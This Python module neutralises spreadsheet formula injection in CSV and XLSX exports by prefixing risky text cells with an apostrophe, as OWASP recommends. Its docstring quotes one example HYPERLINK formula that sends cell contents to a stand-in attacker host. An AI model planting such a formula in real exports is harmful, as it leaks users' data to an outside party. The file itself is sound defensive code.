"""Text cells a spreadsheet would run as a formula, made inert for CSV and XLSX exports.

A unit named ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would be a live formula in Excel or
LibreOffice when an export is opened (CSV injection, OWASP). Every text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading apostrophe, as OWASP recommends: the spreadsheet
shows the text, runs nothing. Numbers are left alone (a negative number is no formula); Parquet exports keep
the values as they are (no spreadsheet opens them).
"""

from __future__ import annotations

import pyarrow as pa
import pyarrow.compute as pc

__all__ = ["neutralise_formulas", "FORMULA_STARTS"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PATTERN = (
    "^["
    + "".join("\\" + c if c in "-+" else c for c in FORMULA_STARTS).replace("\t", "\\t").replace("\r", "\\r")
    + "]"
)


def neutralise_formulas(table: pa.Table) -> pa.Table:
    """``table`` with every text value that a spreadsheet would read as a formula prefixed by ``'``."""
    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.fill_null(pc.match_substring_regex(column, _PATTERN), False)
            column = pc.if_else(risky, pc.binary_join_element_wise("'", column, ""), column)
        columns.append(column)
    return pa.table(columns, schema=table.schema)
